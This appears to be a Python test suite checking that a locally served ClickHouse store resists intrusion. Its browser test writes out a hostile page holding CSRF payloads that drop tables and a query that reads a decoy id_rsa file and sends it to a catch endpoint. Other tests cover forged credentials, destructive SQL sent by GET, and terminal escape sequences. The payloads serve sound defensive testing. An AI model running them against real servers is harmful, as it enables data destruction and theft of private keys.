"""Who tries the embedded store's port, and who pretends to be it."""

from __future__ import annotations

import base64
import contextlib
import http.server
import os
import pty
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest
from tests import harness, holds

from chdb_http import child_process, endpoint_file, secret
from polybackfill import errors

LONG = (
    "SELECT count() FROM numbers(1000000000000000) WHERE cityHash64(number) = 1 "
    "SETTINGS max_threads = 1"
)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[harness.Ground]:
    """A store that `db serve` keeps open, with the schema."""
    with harness.ground(tmp_path_factory.mktemp("served"), "http://127.0.0.1:9") as ground:
        ground.run("init").expect(0)
        ground.serve()
        yield ground


def url_of(ground: harness.Ground) -> str:
    endpoint = endpoint_file.read(ground.store)
    assert endpoint is not None
    return f"http://127.0.0.1:{endpoint.port}/"


def ask(url: str, statement: str, *, post: bool = True, **headers: str) -> tuple[int, str]:
    """Status and text of one request of some tool."""
    if not post:
        url += ("&" if "?" in url else "?") + urllib.parse.urlencode({"query": statement})
    request = urllib.request.Request(  # noqa: S310  (loopback)
        url,
        data=statement.encode() if post else None,
        headers={name.replace("_", "-"): value for name, value in headers.items()},
    )
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:  # noqa: S310
            return answer.status, answer.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


def test_only_who_knows_the_secret_comes_in(served: harness.Ground) -> None:
    url, password = url_of(served), holds.password_of(served.store)
    basic = base64.b64encode(f"default:{password}".encode()).decode()
    wrong = base64.b64encode(b"default:guessed").decode()
    for headers in (
        {},
        {"X_ClickHouse_User": "default"},
        {"X_ClickHouse_User": "default", "X_ClickHouse_Key": "guessed"},
        {"X_ClickHouse_User": "default", "X_ClickHouse_Key": "é"},
        {"X_ClickHouse_User": "admin", "X_ClickHouse_Key": password},
        {"Authorization": f"Basic {wrong}"},
        {"Authorization": "Basic %%%"},
        {"Authorization": f"Bearer {password}"},
        {"X_Polybackfill_Nonce": "1", "X_Polybackfill_Proof": "1"},
    ):
        for post in (True, False):
            status, said = ask(url, "SELECT 'in'", post=post, **headers)
            assert status == 403, headers
            assert "db serve" in said
            assert password not in said
    for headers in (
        {"X_ClickHouse_User": "default", "X_ClickHouse_Key": password},
        {"X_ClickHouse_Key": password},
        {"Authorization": f"Basic {basic}"},
    ):
        assert ask(url, "SELECT 'in'", **headers) == (200, "in\n")
    assert ask(f"{url}?user=default&password={password}", "SELECT 'in'") == (200, "in\n")
    assert ask(url, "SELECT 1", **{"X_ClickHouse_Key": password}, Origin="null")[0] == 403


def test_nothing_changes_on_get(served: harness.Ground) -> None:
    url, login = url_of(served), {"X_ClickHouse_Key": holds.password_of(served.store)}
    assert ask(url, "CREATE TABLE mine (n UInt8) ENGINE = MergeTree ORDER BY n", **login)[0] == 200
    for statement in (
        "DROP TABLE mine",
        "TRUNCATE TABLE mine",
        "CREATE TABLE more (n UInt8) ENGINE = Memory",
        "INSERT INTO mine VALUES (1)",
        "INSERT INTO mine SELECT 1",
        "INSERT INTO mine FORMAT CSV",
        "ALTER TABLE mine DELETE WHERE 1",
        "KILL QUERY WHERE query_id = 'x' SYNC",
        "KILL QUERY WHERE 1",
        "SYSTEM STOP MERGES",
        "SET readonly = 0",
        "SELECT 1 SETTINGS readonly = 0",
        "SELECT 1; DROP TABLE mine",
    ):
        for parameters in ("", "?readonly=0", "?readonly=1&readonly=0"):
            status, said = ask(url + parameters, statement, post=False, **login)
            assert status >= 400, f"{parameters} {statement}: {said}"
    assert ask(f"{url}?readonly=0", "SELECT count() FROM mine", post=False, **login)[1] == "0\n"
    assert ask(f"{url}?max_threads=1", "SELECT 1 FORMAT Parquet", post=False, **login)[0] == 200
    assert ask(url, "SELECT 1 SETTINGS max_threads = 1", post=False, **login) == (200, "1\n")


CHROMIUM = shutil.which("chromium")


@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed: no web page can be shown")
def test_a_web_page_in_the_users_browser_reaches_nothing(served: harness.Ground) -> None:
    """Even one that knows the secret, which none does."""
    url, password = url_of(served), holds.password_of(served.store)
    private = served.folder / "id_rsa"
    private.write_text("private")
    visits: list[str] = []
    drop = urllib.parse.urlencode({"query": "DROP TABLE external_trades_raw"})
    login = urllib.parse.urlencode({"user": "default", "password": password})

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            visits.append(self.path)
            catch = f"http://127.0.0.1:{self.server.server_port}/catch"  # type: ignore[attr-defined]
            steal = urllib.parse.urlencode(
                {
                    "query": f"INSERT INTO FUNCTION url('{catch}', LineAsString, 'x String') "
                    f"SELECT line FROM file('{private}', LineAsString)"
                }
            )
            hrefs = [f"{url}?{drop}", f"{url}?{drop}&{login}", f"{url}?{steal}&{login}"]
            images = "".join(f'<img src="{href}">' for href in hrefs)
            body = (
                f"<h1>Cats</h1>{images}<script>"
                f"fetch('{url}?{login}', {{method: 'POST', mode: 'no-cors', "
                "body: 'DROP TABLE external_trades_raw'}).catch(() => 0)"
                f"</script><form id=f method=post enctype=text/plain action='{url}?{login}'>"
                "<input name='DROP TABLE external_trades_raw -- ' value=x></form>"
                "<iframe name=i></iframe><script>f.target='i'; f.submit()</script>"
            ).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        shown = subprocess.run(
            [
                str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu",
                "--disable-background-networking", f"--user-data-dir={served.folder / 'browser'}",
                "--virtual-time-budget=5000", "--dump-dom",
                f"http://localhost:{server.server_port}/evil.html",
            ],
            capture_output=True, timeout=90, check=False,
        )  # fmt: skip
        server.shutdown()
    assert b"Cats" in shown.stdout, shown.stderr[-500:]
    assert "/evil.html" in visits
    assert not any(path.startswith("/catch") for path in visits)
    assert served.query("EXISTS external_trades_raw") == "1\n"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can act as another user")
def test_another_user_of_the_machine_stays_outside(served: harness.Ground) -> None:
    for folder in (served.folder, *served.folder.parents):
        if not folder.stat().st_mode & 0o005 and str(folder).startswith("/tmp"):  # noqa: S108
            folder.chmod(folder.stat().st_mode | 0o055)
    paths = [secret.path(served.store), *served.store.glob("engine"), served.store / "users.xml"]
    port = urllib.parse.urlsplit(url_of(served)).port
    tries = (
        "import os, socket\n"
        "os.setgid(54321); os.setuid(54321)\n"
        f"for path in {list(map(str, paths))}:\n"
        "    try:\n"
        "        print('read', os.listdir(path) if os.path.isdir(path) else open(path).read())\n"
        "    except PermissionError: print('shut')\n"
        "port = socket.socket()\n"
        f"port.connect(('127.0.0.1', {port}))\n"
        "port.sendall(b'GET /?query=SELECT+1 HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n')\n"
        "print(port.recv(4096).split()[1].decode())\n"
    )
    said = subprocess.run(
        [sys.executable, "-c", tries], capture_output=True, text=True, check=True
    ).stdout
    assert said.split() == ["shut"] * 3 + ["403"]


class Impostor:
    """Another program on the port that store.json names."""

    def __init__(self, answer: bytes) -> None:
        self._answer = answer
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        self.heard = b""
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._answer_to, args=[client], daemon=True).start()

    def _answer_to(self, client: socket.socket) -> None:
        with contextlib.suppress(OSError), client:
            heard = b""
            while b"\r\n\r\n" not in heard and (piece := client.recv(65536)):
                heard += piece
            self.heard += heard
            client.sendall(self._answer)
            if b"held" in self._answer:
                client.recv(1)

    def close(self) -> None:
        self._listener.close()


LARGE = b"HTTP/1.1 404 Not Found\r\nContent-Length: 200000\r\n\r\n" + b"x" * 200_000
SAYS_HELD = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nheld\n\r\n"


def test_another_program_on_the_port_is_not_believed(tmp_path: Path) -> None:
    with harness.ground(tmp_path, "http://127.0.0.1:9") as ground:
        ground.run("init").expect(0)
        for answer in (LARGE, SAYS_HELD):
            impostor = Impostor(answer)
            harness.until(lambda: ground.store_pid() is None, "the end of the store")
            stale = endpoint_file.Endpoint("127.0.0.1", impostor.port, os.getpid(), time.time())
            endpoint_file.write(ground.store, stale)
            told = ground.run("sql", "SELECT count() FROM external_trades_raw", "--format", "TSV")
            told.expect(0)
            assert told.out == "0\n"
            assert "Traceback" not in told.err
            assert impostor.heard
            assert holds.password_of(ground.store).encode() not in impostor.heard
            impostor.close()


@pytest.mark.parametrize(
    "answer",
    [
        LARGE,
        SAYS_HELD,
        SAYS_HELD.replace(b"OK\r\n", b"OK\r\nX-Polybackfill-Proof: 00\r\n"),
        b"x" * 200_000,
        b"",
        b"\r\n\r\n",
    ],
    ids=["large", "says-held", "says-proof", "no-http", "hangs-up", "empty-head"],
)
async def test_no_answer_of_another_program_is_a_hold(answer: bytes, tmp_path: Path) -> None:
    impostor = Impostor(answer)
    key = secret.read_or_create(tmp_path)
    endpoint_file.write(
        tmp_path, endpoint_file.Endpoint("127.0.0.1", impostor.port, os.getpid(), time.time())
    )
    assert await child_process.join(tmp_path) is None
    assert key.text.encode() not in impostor.heard
    impostor.close()


@pytest.mark.parametrize("content", [b"", b"{", b"\xff\xfe", b'{"host":"127.0.0.1","port":99999}',
    b'{"host":"example.com","port":80,"pid":1,"started_at":1.0}', b"[" * 5000])  # fmt: skip
def test_a_damaged_address_is_no_traceback(content: bytes, tmp_path: Path) -> None:
    store = tmp_path / "data" / "clickhouse"
    store.mkdir(parents=True)
    (store / "store.json").write_bytes(content)
    assert endpoint_file.read(store) is None


def cores_used_by(process: psutil.Process) -> float:
    """Over the next second, which may be a long one on a loaded machine."""
    began_at, before = time.monotonic(), sum(process.cpu_times()[:2])
    time.sleep(1.0)
    return (sum(process.cpu_times()[:2]) - before) / (time.monotonic() - began_at)


def test_six_interrupted_queries_leave_the_store_to_others(served: harness.Ground) -> None:
    """Seed: a reader can never starve the writer; a query whose client is gone ends."""
    pid = served.store_pid()
    assert pid is not None
    child = psutil.Process(pid)
    endless = [served.start("sql", LONG) for _ in range(6)]
    running = "SELECT count() FROM system.processes WHERE query LIKE '%cityHash64(number) = 1%' "
    running += "AND query NOT LIKE '%system.processes%'"
    harness.until(lambda: served.query(running) == "6\n", "six queries at work", within_s=60)
    assert served.query("CREATE TABLE kept (n UInt8) ENGINE = MergeTree ORDER BY n") == ""
    assert served.query("INSERT INTO kept VALUES (1)") == ""
    for one in endless:
        one.signal(signal.SIGINT)
    for one in endless:
        assert one.end().code != 0
    harness.until(lambda: served.query(running) == "0\n", "the end of the queries", within_s=20)
    harness.until(lambda: cores_used_by(child) < 0.5, "no computing for nobody", within_s=20)
    child.send_signal(signal.SIGTERM)
    assert served.query("SELECT 1") == "1\n", "it ends with its last user"


def test_sigterm_ends_the_child_whatever_it_computes(tmp_path: Path) -> None:
    with harness.ground(tmp_path, "http://127.0.0.1:9") as ground:
        ground.run("init").expect(0)
        endless = ground.start("sql", LONG)
        harness.until(lambda: ground.store_pid() is not None, "the store")
        pid = ground.store_pid()
        harness.until(lambda: b"1" in (ground.query("SELECT 1") or "").encode(), "the store")
        endless.kill()
        child = psutil.Process(pid)
        child.send_signal(signal.SIGTERM)
        child.wait(15)
        told = ground.run("sql", "SELECT 1")
        told.expect(errors.EXIT_OK)


def typed(served: harness.Ground, *words: str, given: bytes = b"") -> str:
    """What `polybackfill sql` prints for statements on its standard input."""
    ended = subprocess.run(
        [sys.executable, "-m", "polybackfill", "sql", *words],
        cwd=served.folder,
        env={**os.environ, **served.environment},
        input=given,
        capture_output=True,
        check=True,
    )
    return ended.stdout.decode()


def test_statements_come_from_standard_input(served: harness.Ground) -> None:
    script = b"SELECT 1 AS a; -- the first; one\nSELECT ';' AS b;\n"
    assert typed(served, given=script) == "a\n1\nb\n;\n"
    assert typed(served, "-", "--format", "TSV", given=b"SELECT 2") == "2\n"
    rows = b"CREATE TABLE fed (n UInt8) ENGINE = Memory; INSERT INTO fed FORMAT CSV\n1\n2\n"
    assert typed(served, given=rows) == ""
    assert typed(served, "SELECT sum(n) AS n FROM fed; SELECT 4 AS n") == "n\n3\nn\n4\n"


def test_texts_of_strangers_do_not_command_the_terminal(served: harness.Ground) -> None:
    ours, theirs = pty.openpty()
    statement = "SELECT concat('a', char(27), '[2J', char(7), 'b', unhex('C29B'), 'c') AS t"
    for words in ((), ("--format", "Vertical"), ("--format", "TSVRaw")):
        subprocess.run(
            [sys.executable, "-m", "polybackfill", "sql", statement, *words],
            cwd=served.folder,
            env={**os.environ, **served.environment, "TERM": "xterm"},
            stdin=theirs,
            stdout=theirs,
            check=True,
        )
    os.close(theirs)
    said = b""
    with contextlib.suppress(OSError):
        while piece := os.read(ours, 65536):
            said += piece
    os.close(ours)
    text = said.decode()
    assert text.count("[2J") == 3
    for unwanted in ("\x1b", "\x07", "\x9b"):
        assert unwanted not in text


def test_a_script_can_interrupt_what_it_began_in_the_background(tmp_path: Path) -> None:
    """Shells start such programs with SIGINT ignored; also before the store is ready."""
    with harness.ground(tmp_path, "http://127.0.0.1:9") as ground:
        program = f"trap '' INT; exec {shlex.join([*harness.COMMAND, 'db', 'serve'])}"
        with subprocess.Popen(
            ["sh", "-c", program], cwd=ground.folder, env=ground.environment
        ) as serving:
            lists = psutil.Process(serving.pid).children
            harness.until(lists, "the beginning of the store", 60.0, every_s=0.02)
            serving.send_signal(signal.SIGINT)
            assert serving.wait(60) == 0
        harness.until(lambda: ground.store_pid() is None, "the end of the store", 60.0)


def test_the_port_that_was_asked_for_is_kept(tmp_path: Path, unused_tcp_port: int) -> None:
    with harness.ground(tmp_path, "http://127.0.0.1:9") as ground:
        ground.run("init").expect(0)
        first = ground.serve().port
        second = ground.start("db", "serve", "--port", str(unused_tcp_port))
        harness.until(lambda: "ready" in second.out(), "the second door")
        assert f"port      {unused_tcp_port}" in second.out()
        login = {"X_ClickHouse_Key": holds.password_of(ground.store)}
        for port in (first, unused_tcp_port):
            assert ask(f"http://127.0.0.1:{port}/", "SELECT 1", **login) == (200, "1\n")
        pid = ground.store_pid()
        assert pid is not None
        os.kill(pid, signal.SIGKILL)
        harness.until(lambda: ground.store_pid() not in (None, pid), "the next child")
        assert url_of(ground) == f"http://127.0.0.1:{unused_tcp_port}/"
        none = ground.run("db", "serve", "--port", "99999")
        none.expect(errors.EXIT_CONFIG)
        assert "--port 99999: give one from 1 to 65535" in none.err
        with socket.create_server(("127.0.0.1", 0)) as other:
            taken = str(other.getsockname()[1])
            told = ground.run("db", "serve", "--port", taken)
        told.expect(errors.EXIT_CONFIG)
        assert taken in told.err
        assert "Traceback" not in told.err
